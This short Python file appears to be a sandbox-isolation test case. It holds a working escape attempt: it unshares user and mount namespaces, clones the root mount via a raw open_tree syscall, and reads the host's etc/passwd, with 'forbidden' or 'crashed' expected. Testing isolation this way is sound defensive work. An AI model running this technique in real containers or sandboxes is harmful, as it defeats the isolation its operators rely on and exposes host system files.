# what: copies a mount as a detached tree, which no folder holds, and reads the host's files in it
# allowed: forbidden crashed
# test: assert len(solve()) > 0

import ctypes
import os


def solve():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.unshare(0x10000000 | 0x00020000)
    handle = libc.syscall(428, -100, b"/", 1 | 0x8000)
    if handle < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.read(os.open("etc/passwd", os.O_RDONLY, dir_fd=handle), 100)
